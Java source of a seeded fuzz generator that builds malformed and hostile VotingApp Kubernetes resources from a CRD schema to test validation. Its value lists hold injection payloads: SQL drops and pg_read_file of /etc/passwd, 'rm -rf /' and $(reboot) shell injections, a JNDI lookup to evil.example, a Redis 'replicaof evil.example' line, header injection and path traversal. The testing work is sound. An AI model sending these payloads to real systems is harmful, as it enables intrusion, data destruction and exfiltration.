package dev.voting.operator.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.voting.crd.VotingAppCrd;
import io.fabric8.kubernetes.client.utils.KubernetesSerialization;
import java.math.BigDecimal;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/**
 * Makes VotingApps that are odd or hostile, in every field that the CRD has: some that a cluster
 * should take, some that it should not. The same seed makes the same ones.
 */
final class OddVotingApps {

  /** How often a value is chosen without regard to what the schema allows. */
  private static final double HOSTILITY = 0.02;

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "-",
          "~",
          "null",
          "true",
          "NaN",
          "0",
          "00001",
          "-1",
          "1.5",
          "0x10",
          "1e9",
          "a b",
          "-a",
          "a-",
          "a..b",
          "A.B",
          "a".repeat(63),
          "a".repeat(64),
          "a".repeat(253),
          "a".repeat(254),
          "a".repeat(300_000),
          ("a".repeat(63) + ".").repeat(3) + "a".repeat(61),
          "ü",
          "日本語",
          "\u202Egnp.exe",
          "\uD83D\uDCA5".repeat(500),
          "\uD800",
          "a\nb",
          "a\r\nX-Injected: 1",
          "a\tb",
          "a\u0000b",
          "\u001b[31mred",
          "\u2028",
          "'; DROP TABLE votes; --",
          "$$; SELECT pg_read_file('/etc/passwd')",
          "\"; rm -rf / #",
          "$(reboot)",
          "$(REDIS_PASSWORD)",
          "${maxMemory}",
          "`id`",
          "${jndi:ldap://evil.example/x}",
          "{{ .Values.password }}",
          "%00%0a",
          "../../etc/passwd",
          "/etc/passwd",
          "a;b|c&d>e",
          "*",
          "*.example.org",
          "example.org",
          "vote.example.org",
          "xn--bcher-kva.example",
          "1.2.3.4",
          "1.2.3",
          "::1",
          "kube-system",
          "default",
          "voting-data",
          "ingress-nginx",
          "istio",
          "nginx",
          "public",
          "postgres",
          "pg_signal_backend",
          "select",
          "voting_user",
          "_",
          "system:masters",
          "https://a.example",
          "http://10.0.0.1:8080",
          "http://localhost:3000",
          "https://a.example:99999",
          "https://a.example/path",
          "https://user:password@a.example",
          "https://a.example\nSet-Cookie: a=b",
          "https://a..example",
          "https://foo.123",
          "https://a.example, https://evil.example",
          "javascript:alert(1)",
          "200mb",
          "1GB",
          "999999999999999gb",
          "200mb\nrequirepass x",
          "200mb requirepass x",
          "noeviction\nreplicaof evil.example 6379",
          "1m",
          "0",
          "999999999g",
          "1m; include /etc/passwd",
          "registry.example.org:5000/team/x:1.2",
          "registry.example.org/x@sha256:" + "a".repeat(64),
          "image:tag --privileged",
          "image\nsecurityContext: {privileged: true}",
          "a:b:c",
          "POSTGRES_PASSWORD",
          "tls.key",
          "letsencrypt");

  /** What fields whose form is a rule's to know, and not the schema's, take. */
  private static final Map<String, Pattern> FORMS =
      Map.of(
          "host", Pattern.compile("^[a-z][-a-z0-9]*(\\.[a-z][-a-z0-9]*)*[a-z]$"),
          "maxMemory", Pattern.compile("^[1-9][0-9]{1,2}mb$"),
          "maxBodySize", Pattern.compile("^[0-9]{1,9}[mg]?$"),
          "storageClassName", Pattern.compile("^([a-z][-a-z0-9]*[a-z])?$"),
          "user", Pattern.compile("^[a-z_]+$"),
          "memory", Pattern.compile("^[1-9][0-9]*(Mi|Gi)$"),
          "size", Pattern.compile("^[1-9][0-9]*(Mi|Gi)$"));

  private static final List<String> KEYS =
      List.of(
          "a",
          "A",
          "-a",
          "a b",
          "",
          "ü",
          "a/b",
          "a/b/c",
          "/b",
          "a/",
          "x".repeat(63),
          "x".repeat(64),
          ("a".repeat(61) + ".").repeat(4) + "example/" + "x".repeat(63),
          ("a".repeat(62) + ".").repeat(3) + "example/" + "x".repeat(63),
          "example.org/team",
          "Example.org/team",
          "example.org/a\nb",
          "kubernetes.io/metadata.name",
          "kubernetes.io/ingress.class",
          "cert-manager.io/cluster-issuer",
          "nginx.ingress.kubernetes.io/limit-rps",
          "nginx.ingress.kubernetes.io/configuration-snippet",
          "nginx.org/server-snippets");

  private static final List<String> QUANTITIES =
      List.of(
          "1",
          "0",
          "0.5",
          "100m",
          "1500m",
          "1Gi",
          "256Mi",
          "1e3",
          "1E3",
          ".5",
          "5.",
          "+1",
          "1n",
          "1E",
          "100k",
          "10Ei",
          "9999999999999999999Gi",
          "12345678901234567890",
          "1e308",
          "1e-308",
          "-1",
          "1 Gi",
          "1GiB",
          "Gi",
          "1e",
          "0x1",
          "1_000",
          "١",
          "1\n",
          "",
          "1".repeat(33));

  private static final List<String> ORIGINS =
      List.of(
          "*",
          "https://a.example",
          "http://10.0.0.1:8080",
          "http://localhost:3000",
          "https://A-b.example.org:8443");

  private static final List<String> NAMES =
      List.of(
          "a",
          "a".repeat(54),
          "a".repeat(55),
          "voting-data",
          "kube",
          "a.b",
          "A",
          "-a",
          "a-",
          "../kube-system",
          "a\nb",
          "ü",
          "");

  private final Random random;
  private final JsonNode schema;

  OddVotingApps(long seed) {
    this.random = new Random(seed);
    this.schema =
        new KubernetesSerialization()
            .convertValue(VotingAppCrd.read(), JsonNode.class)
            .at("/spec/versions/0/schema/openAPIV3Schema/properties/spec");
  }

  /** The next ones, without end. */
  Stream<ObjectNode> stream(String name) {
    return Stream.generate(() -> next(name));
  }

  private ObjectNode next(String name) {
    var app = NODES.objectNode();
    app.put("apiVersion", "voting.dev/v1alpha1").put("kind", "VotingApp");
    app.putObject("metadata").put("name", chance(0.05) ? pick(NAMES) : name);
    app.set("spec", object(schema));
    return app;
  }

  /** Mostly one that is taken, for there is much in it that has to fit together. */
  private ObjectNode poll(JsonNode schema) {
    var poll = object(schema);
    if (chance(0.2)) {
      return poll;
    }
    poll.put("title", fitting(TEXTS, schema.at("/properties/title")));
    var label = schema.at("/properties/options/items/properties/label");
    var options = poll.putArray("options");
    for (int i = 2 + random.nextInt(chance(0.1) ? 19 : 3); i > 0; i--) {
      options
          .addObject()
          .put("key", "key-" + i)
          .put(
              "label",
              i + fitting(TEXTS.stream().filter(text -> text.length() < 50).toList(), label))
          .put("emoji", pick(List.of("🍕", "x", "\"", "👨‍👩‍👧‍👦")))
          .put("retired", i > 2 && random.nextBoolean());
    }
    poll.put("round", pick(List.of("1", "2", "a-b")));
    if (chance(0.9)) {
      poll.remove(List.of("opensAt", "ballots"));
      poll.put("closesAt", pick(List.of("2026-12-01T18:05:00Z", "2028-02-29T00:00:00Z")));
    }
    return poll;
  }

  private JsonNode value(String name, JsonNode schema) {
    if (name.equals("poll")) {
      return poll(schema);
    }
    var form = FORMS.get(name);
    if (form == null || chance(0.1)) {
      return value(schema);
    }
    var quantity = schema.path("x-kubernetes-int-or-string").asBoolean();
    return NODES.textNode(
        pick(
            (quantity ? QUANTITIES : TEXTS)
                .stream().filter(text -> form.matcher(text).find()).toList()));
  }

  private JsonNode value(JsonNode schema) {
    if (chance(HOSTILITY)) {
      return anything();
    }
    if (schema.path("x-kubernetes-int-or-string").asBoolean()) {
      return chance(0.1)
          ? NODES.numberNode(random.nextInt(1 << 20))
          : NODES.textNode(fitting(QUANTITIES, schema));
    }
    if (schema.has("enum")) {
      return schema.get("enum").get(random.nextInt(schema.get("enum").size()));
    }
    return switch (schema.path("type").asText()) {
      case "object" -> schema.has("properties") ? object(schema) : map(schema);
      case "array" -> list(schema);
      case "integer" -> number(schema);
      case "boolean" -> NODES.booleanNode(random.nextBoolean());
      default -> NODES.textNode(fitting(TEXTS, schema));
    };
  }

  private ObjectNode object(JsonNode schema) {
    var object = NODES.objectNode();
    schema
        .path("properties")
        .properties()
        .forEach(
            property -> {
              if (chance(isRequired(schema, property.getKey()) ? 0.97 : 0.35)) {
                object.set(property.getKey(), value(property.getKey(), property.getValue()));
              }
            });
    if (chance(HOSTILITY / 4)) {
      object.set(pick(TEXTS.subList(1, 30)), anything());
    }
    return object;
  }

  private static boolean isRequired(JsonNode schema, String name) {
    for (var required : schema.path("required")) {
      if (required.asText().equals(name)) {
        return true;
      }
    }
    return false;
  }

  private ObjectNode map(JsonNode schema) {
    var map = NODES.objectNode();
    int size = chance(0.03) ? 40 : random.nextInt(4) + (chance(0.05) ? 0 : 1);
    for (int i = 0; i < size; i++) {
      var key = chance(0.1) ? pick(KEYS) : "example.org/k" + i;
      map.set(
          chance(0.1) ? "cert-manager.io/cluster-issuer" : key,
          value(schema.path("additionalProperties")));
    }
    return map;
  }

  private JsonNode list(JsonNode schema) {
    var list = NODES.arrayNode();
    int size = chance(0.05) ? 40 : random.nextInt(4);
    for (int i = 0; i < size; i++) {
      // The only list of texts is of origins, whose form is a rule's and not the schema's to know.
      var texts = schema.path("items").path("type").asText().equals("string");
      list.add(texts && chance(0.9) ? NODES.textNode(pick(ORIGINS)) : value(schema.path("items")));
    }
    return list;
  }

  private JsonNode number(JsonNode schema) {
    long least = schema.path("minimum").asLong(0);
    long most = schema.path("maximum").asLong(1000);
    return switch (random.nextInt(20)) {
      case 0 -> NODES.numberNode(least);
      case 1 -> NODES.numberNode(most);
      case 2 -> NODES.numberNode(chance(0.2) ? most + 1 : most);
      case 3 -> NODES.numberNode(chance(0.2) ? least - 1 : least);
      default -> NODES.numberNode(least + (long) (random.nextDouble() * (most - least)));
    };
  }

  private JsonNode anything() {
    return switch (random.nextInt(12)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.booleanNode(random.nextBoolean());
      case 2 -> NODES.numberNode(-1);
      case 3 -> NODES.numberNode(Long.MAX_VALUE);
      case 4 -> NODES.numberNode(new BigDecimal("0.1"));
      case 5 -> NODES.arrayNode().add(pick(TEXTS));
      case 6 -> NODES.objectNode().put(pick(KEYS), pick(TEXTS));
      case 7 -> NODES.textNode(pick(QUANTITIES));
      default -> NODES.textNode(pick(TEXTS));
    };
  }

  /** A text that the schema takes, if there is one. */
  private String fitting(List<String> texts, JsonNode schema) {
    var pattern = Pattern.compile(schema.path("pattern").asText(""));
    long longest = schema.path("maxLength").asLong(Long.MAX_VALUE);
    var fitting =
        texts.stream()
            .filter(text -> text.codePointCount(0, text.length()) <= longest)
            .filter(text -> pattern.matcher(text).find())
            .toList();
    return fitting.isEmpty() ? pick(texts) : pick(fitting);
  }

  private <T> T pick(List<T> list) {
    return list.get(random.nextInt(list.size()));
  }

  private boolean chance(double probability) {
    return random.nextDouble() < probability;
  }
}
